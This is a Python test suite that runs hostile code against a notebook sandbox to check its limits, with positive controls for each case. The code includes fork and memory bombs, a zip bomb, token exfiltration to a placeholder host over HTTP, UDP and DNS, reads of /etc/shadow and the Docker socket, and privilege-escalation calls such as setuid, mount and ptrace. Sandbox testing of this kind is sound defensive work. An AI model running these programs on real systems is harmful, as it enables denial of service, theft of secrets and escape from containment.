"""The hostile programs, each with the check that judges it and its positive control.

A positive control runs the same code once with the case's defence removed and asserts the attack then
succeeds, so the check is shown to tell a working defence from a missing one. Where a SandboxConfig field is the
defence, the control loosens that field (`loosen`). Where no config field can remove it (a fixed hardening
flag), the control runs the code in a bare container of the same image with Docker's defaults as root
(`bare`: docker-py run() options), which shows the code can succeed; the case's comment says so. Cases that
check reporting or collection rather than a defence say why they have no control (`no_control`).

Placeholders in the code: @MARK@ is a unique `sleep` duration that tells this run's processes from any other on
the machine; @HOST@, @TCP@ and @UDP@ are a listener the test binds on the host side of Docker's bridge;
@TOKEN@ is what the code tries to send there.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

import pytest

import nbexec
from nbexec import ExecutionResult

Check = Callable[[ExecutionResult], None]
RUNAWAY_S = 8  # how long a runaway program runs; the contained runs have a 4 s time limit


@dataclass(frozen=True)
class Observed:
    """What a positive control saw: the code's stdout, its result (None for a bare container), what the host
    listener received with this case's token, and the marked processes seen on the host while it ran."""

    stdout: str
    result: ExecutionResult | None
    received: bytes = b""
    survivors: tuple[str, ...] = ()
    sandboxes: tuple[str, ...] = ()  # ids of the containers the run used


Succeeded = Callable[[Observed], None]


@dataclass(frozen=True)
class Control:
    succeeded: Succeeded
    loosen: Mapping[str, Any] = field(default_factory=dict)  # SandboxConfig changes that remove the defence
    bare: Mapping[str, Any] | None = None  # no config knob: run in a bare container with these docker options
    kept: bool = False  # observe while the sandbox still runs (a session not yet closed)


@dataclass(frozen=True)
class Case:
    id: str
    code: str
    check: Check
    control: Control | None = None
    no_control: str = ""  # why there is no positive control
    contained: Mapping[str, Any] = field(default_factory=dict)  # config for the contained run (its limits)
    wall_s: float = 30.0  # the contained run must end within this


# -- checks of a contained run -----------------------------------------------------------------------------------

def kind(expected: str, text: str = "") -> Check:
    def check(result: ExecutionResult) -> None:
        assert result.error is not None, f"expected {expected}, the code succeeded: {result.stdout[-500:]}"
        assert result.error.kind == expected, result.error
        assert text in f"{result.error.ename}: {result.error.evalue}\n{result.error.traceback_text}", result.error
    return check


def raises(*names: str, text: str = "") -> Check:
    def check(result: ExecutionResult) -> None:
        assert result.error is not None, f"expected one of {names}: {result.stdout[-500:]}"
        assert result.error.ename in names and text in result.error.evalue, result.error
    return check


def oom_or_memory_error(result: ExecutionResult) -> None:
    assert result.error is not None, f"the allocation succeeded: {result.stdout[-500:]}"
    if result.error.ename not in ("MemoryError", "_ArrayMemoryError"):
        kind("oom")(result)


def prints(expected: str) -> Check:
    def check(result: ExecutionResult) -> None:
        assert result.ok and expected in result.stdout, (result.stdout[-2000:], result.error)
    return check


def skipped(name: str, reason: str) -> Check:
    def check(result: ExecutionResult) -> None:
        found = {s.name: s.reason for s in result.skipped_files}
        assert reason in found.get(name, ""), found
        assert name not in {f.name for f in result.files}
    return check


def files_capped(result: ExecutionResult) -> None:
    """The file system refused files past its inode count, and the manifest lists at most max_files."""
    assert result.ok and "No space left on device" in result.stdout, (result.stdout[-500:], result.error)
    assert 0 < len(result.files) <= nbexec.SandboxConfig().max_files, len(result.files)
    assert any("max_files" in note for note in result.notes), result.notes


def truncated(result: ExecutionResult) -> None:
    assert result.truncated_bytes > 0 and len(result.stdout) + len(result.stderr) < 3 * 1024 * 1024, (
        result.truncated_bytes, len(result.stdout))


def denied(result: ExecutionResult) -> None:
    """Every attempt was refused by the system (an OSError), and the program got to its end."""
    assert result.ok, result.error
    assert "ALLOWED" not in result.stdout and result.stdout.rstrip().endswith("DENIED"), result.stdout


def try_all(*attempts: str, prelude: str = "") -> str:
    """Code that runs each attempt, printing ALLOWED if one succeeds; prints DENIED at the end. Only a refusal
    by the system (OSError, incl. timeouts, gaierror, URLError, and `checked` failures) counts as refused: any
    other exception (a NameError from a typo) ends the program with an error, which `denied` rejects."""
    body = "".join(f"try:\n    {a}\n    print('ALLOWED: ' + {a!r})\nexcept OSError as exc:\n"
                   f"    print('refused:', {a!r}, exc.__class__.__name__)\n" for a in attempts)
    head = ("import os, socket, ctypes, subprocess, urllib.request\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "def checked(rc):\n    if rc != 0:\n"
            "        e = ctypes.get_errno()\n        raise OSError(e, os.strerror(e))\n")
    return head + prelude + body + "print('DENIED')\n"


# -- observations of a positive control ----------------------------------------------------------------------

def shows(expected: str) -> Succeeded:
    def succeeded(seen: Observed) -> None:
        assert expected in seen.stdout, (seen.stdout[-2000:], seen.result and seen.result.error)
    return succeeded


def allowed(seen: Observed) -> None:
    assert "ALLOWED" in seen.stdout, seen.stdout


def host_received(seen: Observed) -> None:
    """The listener on the host got this case's token (judged from outside, not from the code's word)."""
    assert seen.received, f"the host listener received nothing; the code printed {seen.stdout[-1000:]}"


def survivor_seen(seen: Observed) -> None:
    assert seen.survivors, "no marked process was seen on the host while the sandbox ran"


def kept_everything(seen: Observed) -> None:
    assert seen.result is not None and seen.result.ok and seen.result.truncated_bytes == 0, seen.result
    assert len(seen.result.stdout) >= 16 * 2**20, len(seen.result.stdout)


def image_kept(seen: Observed) -> None:
    assert seen.result is not None and seen.result.images and seen.result.truncated_bytes == 0, seen.result


ENDS = Control(shows("ran to the end"), loosen={"timeout": 30})
BARE = Control(allowed, bare={})  # Docker's defaults: root, its default capabilities, a writable root filesystem
NETWORK = Control(host_received, loosen={"network": True})
PROTOCOL = "the result is built from the kernel protocol, not from what the code prints; there is no defence to loosen"
REPORTING = "checks how an ending is reported; there is no defence to loosen"
COLLECTION = "checks how /mnt/data is collected on the host; nbexec has no switch to follow links or keep such files"
FILL = ("f = open({path!r}, 'wb')\nfor _ in range(100):\n    f.write(b'x' * 2**20)\n    f.flush()\n"
        "print('wrote 100 MiB')")
ENOSPC = raises("OSError", text="No space left on device")
SPAWN = ("        try:\n            os.execv('/bin/sleep', ['sleep', '@MARK@'])\n        finally:\n"
         "            os._exit(1)\n")  # a child that becomes a marked `sleep`, or ends
DNS_QUERY = ("def dns_query(name):\n    labels = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.'))\n"
             "    header = bytes([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])\n"
             "    return header + labels + bytes([0, 0, 1, 0, 1])\n")
# NoNewPrivs is asked of the kernel (prctl PR_GET_NO_NEW_PRIVS): gVisor's /proc/self/status has no such line.
STATUS = ("import ctypes, os\nlines = open('/proc/self/status').read().splitlines()\n"
          "status = dict(l.split(':\\t', 1) for l in lines if ':\\t' in l)\n"
          "status['NoNewPrivs'] = str(ctypes.CDLL(None, use_errno=True).prctl(39, 0, 0, 0, 0))\n"
          "print(' '.join(f'{k}={status[k].strip()}' for k in ('CapEff', 'CapPrm', 'CapBnd', 'NoNewPrivs')))\n")

# The bombs must be stopped by the pids limit (EAGAIN), so their time limit is one they never reach, even on a
# loaded machine where a few hundred forks of a kernel take seconds.
BOMB = {"timeout": 25}


def data_capped(result: ExecutionResult) -> None:
    """Writing past the /mnt/data cap fails: the sandbox is stopped (kind "limit") or the write is refused."""
    assert result.error is not None, f"wrote past the 64m cap and finished: {result.stdout[-200:]}"
    if result.error.kind != "limit":
        raises("OSError")(result)
        assert "No space left" in result.error.evalue or "quota" in result.error.evalue, result.error


CASES = [
    # -- time: runaway code ends at the time limit (controls: the same code runs to its end with a longer one) ----
    Case("cpu-loop", f"import time\nend = time.monotonic() + {RUNAWAY_S}\nwhile time.monotonic() < end:\n    pass\n"
                     "print('ran to the end')", kind("timeout"), ENDS),
    Case("sleep-forever", f"import time\ntime.sleep({RUNAWAY_S})\nprint('ran to the end')", kind("timeout"), ENDS),
    # The thread spins without allocating, so the time limit, not memory, is what ends it on any machine.
    Case("busy-thread", "import threading, time\ndef spin():\n    while True:\n        pass\n"
                        f"threading.Thread(target=spin, daemon=True).start()\ntime.sleep({RUNAWAY_S})\n"
                        "print('ran to the end')", kind("timeout"), ENDS),
    Case("ignores-sigint", "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                           f"signal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep({RUNAWAY_S})\n"
                           "print('ran to the end')", kind("timeout", "killed"), ENDS),
    # -- processes: the pids limit refuses fork with EAGAIN well before the time limit --------------------------
    Case("fork-bomb", "import errno, os\nmade = 0\nwhile made < 400:\n    try:\n        pid = os.fork()\n"
                      "    except BlockingIOError as exc:\n"
                      "        print('fork refused:', errno.errorcode[exc.errno], 'after', made)\n        break\n"
                      "    if pid == 0:\n" + SPAWN + "    made += 1\nelse:\n"
                      "    print('made', made, 'processes')",
         prints("fork refused: EAGAIN"), Control(shows("made 400 processes"), loosen={"pids": 4096}), contained=BOMB),
    Case("thread-bomb", "import threading, time\nthreads = []\ntry:\n    while len(threads) < 400:\n"
                        "        t = threading.Thread(target=time.sleep, args=(100,), daemon=True)\n"
                        "        t.start()\n        threads.append(t)\n    print('made', len(threads), 'threads')\n"
                        "except RuntimeError as exc:\n    print('thread refused:', exc)",
         prints("thread refused: can't start new thread"), Control(shows("made 400 threads"), loosen={"pids": 4096}),
         contained=BOMB),
    Case("subprocess-bomb", "import subprocess\nprocs = []\ntry:\n    while len(procs) < 400:\n"
                            "        procs.append(subprocess.Popen(['sleep', '@MARK@']))\n"
                            "    print('made', len(procs), 'processes')\n"
                            "except BlockingIOError:\n    print('spawn refused: EAGAIN after', len(procs))",
         prints("spawn refused: EAGAIN"), Control(shows("made 400 processes"), loosen={"pids": 4096}), contained=BOMB),
    # -- processes that try to outlive the sandbox (the control sees them on the host while the sandbox runs) ---
    Case("outlives-cell", "import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep @MARK@ &'])\nprint('left it')",
         prints("left it"), Control(survivor_seen, kept=True)),
    Case("daemonize", "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                      + SPAWN + "    os._exit(0)\nprint('parent done')",
         prints("parent done"), Control(survivor_seen, kept=True)),
    # -- endings that must be reported, not contained ------------------------------------------------------------
    Case("os-exit", "import os\nos._exit(7)", kind("kernel_died", "exit code"), no_control=REPORTING),
    Case("segfault", "import ctypes\nctypes.string_at(0)", kind("kernel_died"), no_control=REPORTING),
    Case("sys-exit", "import sys\nsys.exit(3)", raises("SystemExit"), no_control=REPORTING),
    Case("keyboard-interrupt", "raise KeyboardInterrupt", raises("KeyboardInterrupt"), no_control=REPORTING),
    Case("input", "input('password: ')", raises("StdinNotImplementedError"),
         no_control="the kernel is started without stdin; nbexec has no switch to give it one"),
    # -- memory: 512 MiB touched, against a 256m limit (controls: 1g) ---------------------------------------------
    Case("memory-bomb", "blocks = []\nfor _ in range(8):\n    blocks.append(bytearray(b'\\x01') * (64 * 2**20))\n"
                        "print('held 512 MiB')", oom_or_memory_error,
         Control(shows("held 512 MiB"), loosen={"memory": "1g"}), contained={"memory": "256m"}),
    Case("memory-bomb-child", "import subprocess, sys\ndone = subprocess.run([sys.executable, '-c', "
                              "\"b = [bytearray(b'\\\\x01') * (64 * 2**20) for _ in range(8)]\"])\n"
                              "print('child exit', done.returncode)",
         lambda r: None if r.ok and "child exit" in r.stdout and "child exit 0" not in r.stdout else kind("oom")(r),
         Control(shows("child exit 0"), loosen={"memory": "1g"}), contained={"memory": "256m"}),
    Case("numpy-huge", "import numpy as np\na = np.ones(64 * 2**20)\nprint('held', a.nbytes >> 20, 'MiB')",
         oom_or_memory_error, Control(shows("held 512 MiB"), loosen={"memory": "1g"}), contained={"memory": "256m"}),
    # -- disk ----------------------------------------------------------------------------------------------------
    Case("fill-data", FILL.format(path="/mnt/data/fill"), data_capped,
         Control(shows("wrote 100 MiB"), loosen={"max_data": "1g"}), contained={"max_data": "64m"}),
    Case("fill-tmp", FILL.format(path="/tmp/fill"), ENOSPC,
         Control(shows("wrote 100 MiB"), loosen={"tmp_size": "256m"}), contained={"tmp_size": "64m"}),
    # HOME is a 64m tmpfs and /dev/shm is 64m, both fixed (no config field): the controls use a bare container.
    Case("fill-home", FILL.format(path="/home/sandbox/fill"), ENOSPC, Control(shows("wrote 100 MiB"), bare={})),
    Case("fill-shm", FILL.format(path="/dev/shm/fill"), ENOSPC,
         Control(shows("wrote 100 MiB"), bare={"shm_size": "256m"})),
    # The read-only root filesystem and the non-root user are fixed: the control is a bare container.
    Case("write-rootfs", try_all("open('/usr/evil', 'w')", "open('/etc/passwd', 'a')", "os.mkdir('/evil')"), denied,
         BARE),
    Case("ten-thousand-files", "import os\nos.makedirs('many', exist_ok=True)\nmade = 0\ntry:\n"
                               "    for i in range(10000):\n        open(f'many/{i}.txt', 'w').write(str(i))\n"
                               "        made += 1\nexcept OSError as exc:\n    print(exc.strerror)\n"
                               "print('made', made)",
         files_capped, Control(shows("made 10000"), loosen={"max_files": 20000}), wall_s=60),
    Case("zip-bomb", "import zipfile\nwith zipfile.ZipFile('/mnt/data/bomb.zip', 'w', zipfile.ZIP_DEFLATED) as z:\n"
                     "    with z.open('zeros', 'w') as f:\n"
                     "        for _ in range(100):\n            f.write(bytes(2**20))\n"
                     "zipfile.ZipFile('/mnt/data/bomb.zip').extractall('/tmp/out')\nprint('extracted')",
         # 20 s: the defence judged is the /tmp cap, not the time limit (compressing 100 MiB took past 4 s in a
         # loaded CI run)
         ENOSPC, Control(shows("extracted"), loosen={"tmp_size": "256m"}),
         contained={"tmp_size": "64m", "timeout": 20}),
    # -- output: 16 MiB of text against the 1m cap (controls: a 64m cap keeps it all) -----------------------------
    Case("huge-output", "import sys\nchunk = 'y' * 2**20\nfor _ in range(16):\n    sys.stdout.write(chunk)",
         truncated, Control(kept_everything, loosen={"max_output": "64m"})),
    Case("giant-line", "print('z' * (16 * 2**20))", truncated, Control(kept_everything, loosen={"max_output": "64m"})),
    Case("tiny-messages", "import sys\nfor i in range(2_000_000):\n    sys.stdout.write('.')\nprint('end')",
         lambda r: None if r.ok and (r.truncated_bytes or r.stdout.endswith("end\n")) else pytest.fail(str(r.error)),
         no_control="checks that a flood of tiny messages ends in time; there is no defence to loosen",
         # 45 s: the kernel's own 2,000,000 writes take 12-18 s under runc on a quiet machine, past 20 s under CI's
         # load; the host's part is judged by the wall bound
         contained={"timeout": 45}, wall_s=60),
    Case("giant-image", "import numpy as np\nfrom PIL import Image\nfrom IPython.display import display\n"
                        "rng = np.random.default_rng(0)\n"
                        "display(Image.fromarray(rng.integers(0, 255, (2000, 2000, 3), dtype=np.uint8)))",
         lambda r: None if r.truncated_bytes > 0 and not r.images else pytest.fail(f"{r.truncated_bytes} {r.images}"),
         Control(image_kept, loosen={"max_display": "64m"}), contained={"max_display": "8m"}, wall_s=60),
    Case("fake-result-json", "import json\nprint(json.dumps({'ok': True, 'stdout': 'all good', 'error': None}))\n"
                             "raise ValueError('real')",
         lambda r: (raises("ValueError")(r), None if '"ok": true' in r.stdout else pytest.fail(r.stdout))[1],
         no_control=PROTOCOL),
    Case("fake-notebook-file", "import json\nopen('/mnt/data/notebook.ipynb', 'w').write(json.dumps({'cells': []}))\n"
                               "print('wrote')",
         lambda r: (prints("wrote")(r), None if r.notebook is not None and len(r.notebook.cells) == 1
                    else pytest.fail("the planted notebook replaced the executed one"))[1], no_control=PROTOCOL),
    Case("ansi-escapes", "print('\\x1b[2J\\x1b[31mred\\x1b]0;title\\x07')\n"
                         "raise RuntimeError('\\x1b[31mcolored\\x1b[0m')",
         lambda r: None if "\x1b" not in r.text + (r.error.traceback_text if r.error else "x\x1b") else pytest.fail(),
         no_control="escape stripping has no switch; the check reads the result's own text"),
    # -- network: the code targets a listener on this machine (the bridge gateway), judged by what it received ---
    Case("http-exfiltration", try_all("urllib.request.urlopen('http://@HOST@:@TCP@/@TOKEN@', timeout=3).read()",
                                      "socket.create_connection(('1.1.1.1', 80), timeout=3)"), denied, NETWORK),
    Case("dns", try_all("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto("
                        "dns_query('@TOKEN@.exfil.test'), ('@HOST@', @UDP@))",
                        "socket.getaddrinfo('example.com', 80)", prelude=DNS_QUERY), denied, NETWORK),
    # CAP_NET_RAW is dropped whatever the network: no config field brings it back, so the control is bare.
    Case("raw-socket", try_all("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
                               "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"), denied, BARE),
    Case("docker-bridge-host", try_all("socket.create_connection(('@HOST@', @TCP@), timeout=3).sendall(b'@TOKEN@')",
                                       "socket.create_connection(('@HOST@', 2375), timeout=3)"), denied, NETWORK),
    Case("udp", try_all("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'@TOKEN@', ('@HOST@', @UDP@))",
                        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))"),
         denied, NETWORK),
    # -- host secrets --------------------------------------------------------------------------------------------
    Case("host-env", "import os\nprint(sorted(k for k in os.environ if 'SECRET' in k))\n"
                     "print(open('/proc/1/environ', 'rb').read().count(b's3cret'))", prints("[]\n0"),
         Control(shows("['LEAKED_SECRET']\n1"), loosen={"env": {"LEAKED_SECRET": "s3cret-canary"}})),
    # Nothing of the host is mounted but /mnt/data (no config field mounts more at a host path): bare controls
    # with the socket, or the canary's folder, bind-mounted.
    Case("docker-socket", try_all("socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
                                  "socket.socket(socket.AF_UNIX).connect('/run/docker.sock')"), denied,
         Control(allowed, bare={"volumes": {"/var/run/docker.sock": {"bind": "/var/run/docker.sock", "mode": "ro"}}})),
    Case("host-files", try_all("open(os.environ['PLANTED_PATH']).read()", "os.listdir('/work')",
                               "os.listdir('/root/.ssh')"), denied, Control(allowed, bare={"mount_canary": True})),
    Case("read-shadow", try_all("open('/etc/shadow').read()"), denied, BARE),
    # -- privilege: no capabilities, no new privileges, no root (config refuses root: controls are bare) --------
    Case("capabilities", STATUS + "try:\n    os.setuid(0)\n    print('setuid ALLOWED')\n"
                         "except PermissionError as exc:\n    print('setuid refused:', exc.errno)",
         prints("CapEff=0000000000000000 CapPrm=0000000000000000 CapBnd=0000000000000000 NoNewPrivs=1\n"
                "setuid refused: 1"), Control(shows("setuid ALLOWED"), bare={})),
    Case("setgid-root", try_all("os.setgid(0)", "os.setegid(0)", "os.setgroups([0])"), denied, BARE),
    Case("mount", try_all("checked(libc.mount(b'x', b'/tmp', b'tmpfs', 0, None))"), denied,
         Control(allowed, bare={"cap_add": ["SYS_ADMIN"], "security_opt": ["seccomp=unconfined"]})),
    # PID 1 (tini) shares the user's uid, so the kernel lets the code ptrace it: that is allowed and harmless,
    # because the host trusts nothing inside the sandbox. What must fail is reaching anything outside it.
    Case("ptrace", try_all("checked(libc.ptrace(16, @HOSTPID@, 0, 0))", "checked(libc.ptrace(16, 2**22 - 1, 0, 0))",
                           "open('/proc/kcore', 'rb').read(1)"), denied,
         no_control="a loosened run would stop a host process it attaches to; test_guarantees checks that host "
                    "pids are not visible (own PID namespace)"),
    Case("namespaces", try_all("checked(libc.unshare(0x10000000))", "checked(libc.unshare(0x00020000))",
                               "checked(libc.chroot(b'/tmp'))"), denied, BARE),
    Case("proc-sys", try_all("open('/proc/sys/kernel/hostname', 'w').write('x')",
                             "open('/proc/sysrq-trigger', 'w').write('b')"), denied,
         no_control="Docker masks these in every container it starts; only a privileged one (never made) would not"),
    Case("mknod", try_all("os.mknod('/mnt/data/dev', 0o20666, os.makedev(1, 3))",
                          "os.mknod('/tmp/dev', 0o60666, os.makedev(8, 0))"), denied, BARE),
    Case("kernel-modules", try_all("checked(libc.init_module(0, 0, b''))", "open('/dev/mem', 'rb').read(1)",
                                   "open('/dev/kmsg').read(1)"), denied,
         no_control="only a privileged container (never made) could load modules"),
    # -- files planted for the host ------------------------------------------------------------------------------
    Case("setuid-file", "import os, shutil\nshutil.copy('/bin/true', '/mnt/data/suid')\n"
                        "os.chmod('/mnt/data/suid', 0o4755)", skipped("suid", "setuid"), no_control=COLLECTION),
    # Each set-id bit alone: a setgid file is as much a privilege for whoever runs it later as a setuid one.
    Case("setgid-file", "import os, shutil\nshutil.copy('/bin/true', '/mnt/data/sgid')\n"
                        "os.chmod('/mnt/data/sgid', 0o2755)", skipped("sgid", "setgid"), no_control=COLLECTION),
    Case("symlink-to-host", "import os\nos.symlink(os.environ['PLANTED_PATH'], '/mnt/data/canary-link')\n"
                            "os.symlink('/etc/shadow', '/mnt/data/shadow')", skipped("canary-link", "symbolic link"),
         no_control=COLLECTION),
    Case("fifo", "import os\nos.mkfifo('/mnt/data/pipe')", skipped("pipe", "FIFO"), no_control=COLLECTION),
    Case("hostile-names", "for name in ['a\\nb', '..x', 'x' * 255, 'caf\\udce9']:\n"
                          "    try:\n        open(name.encode('utf-8', 'surrogateescape'), 'w').write('x')\n"
                          "    except OSError:\n        pass",
         lambda r: None if {"a\\nb", "caf\\xe9"} <= {s.name for s in r.skipped_files} else pytest.fail(
             str(r.skipped_files)), no_control=COLLECTION),
    Case("hardlink-outside", try_all("os.link('/etc/passwd', '/mnt/data/passwd')",
                                     "os.link('/tmp', '/mnt/data/tmp')"), denied,
         no_control="/mnt/data is its own mount, so a link across is refused by the kernel (EXDEV) in any container"),
]
